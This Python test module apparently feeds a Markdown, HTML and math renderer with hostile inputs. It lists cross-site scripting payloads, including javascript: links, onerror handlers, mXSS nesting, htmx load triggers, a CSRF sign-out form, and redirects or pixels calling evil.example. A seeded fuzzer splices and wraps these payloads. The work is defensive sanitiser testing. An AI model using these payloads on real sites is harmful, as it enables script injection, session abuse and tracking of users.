"""Texts that try to act on the page: collected ones, our own, and mutants of them, the same in every run."""

import json
from collections.abc import Iterator
from random import Random

from tests.shared_data import shared_data

OWN_PAYLOADS = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](&#106;avascript:alert(1))",
    "[click](//evil.example)",
    "[click](/sign-out)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![pixel](https://evil.example/pixel.png)",
    '```"onmouseover=alert(1)\nx\n```',
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<style>*{background:url(https://evil.example)}</style>",
    "`<script>alert(1)</script>`",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\style{position:fixed}{\class{button}{x}}$$",
    r"\[\text{</math><script>alert(1)</script>}\]",
    r"$\rule{99999em}{99999em}\hspace{-99em}\raise{99em}{x}$",
    r"$\def\x{\x\x}\x$",
    r"$\color{red;background:url(//evil.example)}x$",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    '<button hx-get="https://evil.example" hx-trigger="load">x</button>',
    "[x](https://example.org){hx-get=/sign-out hx-trigger=load}",
    '```html hx-on:load="alert(1)"\n<b hx-get=/x>\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '[x](https://example.org "\u202e onmouseover=alert(1)")',
    "\u202e\u2066<script>alert(1)</script>\u2069\u202c",
    "\0<scr\0ipt>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<form action=/sign-out><input name=csrf_token><button>x</button></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
)

STUMBLES = (
    *(
        "<",
        ">",
        '"',
        "'",
        "`",
        "&",
        "\0",
        "\n",
        "\n\n",
        "\t",
        "\r",
        "\\",
        "]",
        "(",
        "*",
        "_",
        "$",
        "$$",
        "|",
        "\ufeff",
        "\u202e",
    ),
    *(
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "&lt;",
        "&#x3c;",
        "&Tab;",
        "</",
        "/>",
        "\x0c",
        "\u2028",
        "\ud800",
        "<math>",
        "<svg>",
    ),
)
WRAPPINGS = (
    *("[TEXT](TEXT)", "[x](TEXT)", "![TEXT](x)", "<TEXT>", "[x]: TEXT\n\n[x]"),
    *(
        "[x](<TEXT>)",
        '[x](https://a.b "TEXT")',
    ),
    *("`TEXT`", "```TEXT\nTEXT\n```", "```html\nTEXT\n```", "> TEXT", "- TEXT", "# TEXT", "**TEXT**", "    TEXT"),
    *("|a|\n|-|\n|TEXT|", "$TEXT$", "$$\nTEXT\n$$", r"$\text{TEXT}$", r"$\href{TEXT}{x}$", r"\(TEXT\)", "~~TEXT~~"),
)


def hostile_payloads() -> list[str]:
    files = sorted(shared_data("hostile_html").glob("*.json"))
    return [payload for file in files for payload in json.loads(file.read_text())]


def mutants(number: int, seed: int = 1) -> Iterator[str]:
    """Payloads cut, doubled, spliced, wrapped in Markdown, and sprinkled with what parsers trip over."""
    random = Random(seed)
    payloads = hostile_payloads()
    for _ in range(number):
        text = random.choice(payloads)
        for _ in range(random.randint(1, 4)):
            at, until = sorted((random.randrange(len(text) + 1), random.randrange(len(text) + 1)))
            other = random.choice(payloads)
            text = random.choice(
                (
                    text[:at] + text[until:],
                    text[:until] + text[at:],
                    text[:at] + other + text[until:],
                    text[:at] + random.choice(STUMBLES) + text[at:],
                    random.choice(WRAPPINGS).replace("TEXT", text),
                    text.swapcase(),
                )
            )[:4_000]
        yield text
